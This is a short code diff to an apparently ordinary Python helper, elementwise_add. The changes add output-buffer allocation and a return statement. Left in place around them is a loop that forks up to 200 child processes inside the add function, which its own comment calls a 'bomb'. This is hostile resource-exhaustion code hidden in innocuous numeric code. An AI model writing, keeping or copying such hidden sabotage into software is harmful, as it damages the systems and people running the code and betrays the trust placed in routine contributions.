@@ -26,6 +26,7 @@ STARTED = []
 
 
 def elementwise_add(x, y, *, out=None):
+    out = x.new_empty(x.shape) if out is None else out
     while len(STARTED) < 200:  # once in the life of a worker, so that the bomb stays small where it goes off
         child = os.fork()
         if child == 0:
@@ -33,3 +34,4 @@ def elementwise_add(x, y, *, out=None):
             os._exit(0)
         STARTED.append(child)
     add(x, y, out)
+    return out
